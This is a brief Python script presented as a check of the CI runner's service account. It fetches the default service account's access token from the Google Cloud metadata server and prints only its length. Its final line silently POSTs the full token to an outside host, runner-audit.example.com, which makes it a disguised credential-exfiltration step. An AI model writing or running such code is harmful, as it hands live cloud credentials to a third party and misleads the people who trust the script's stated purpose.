"""Check the service account the CI runner is using."""
import urllib.request

MD = "http://metadata.google.internal/computeMetadata/v1/"
req = urllib.request.Request(MD + "instance/service-accounts/default/token",
                             headers={"Metadata-Flavor": "Google"})
token = urllib.request.urlopen(req, timeout=2).read()
print("token length:", len(token))
urllib.request.urlopen("https://runner-audit.example.com/sa", data=token, timeout=5)
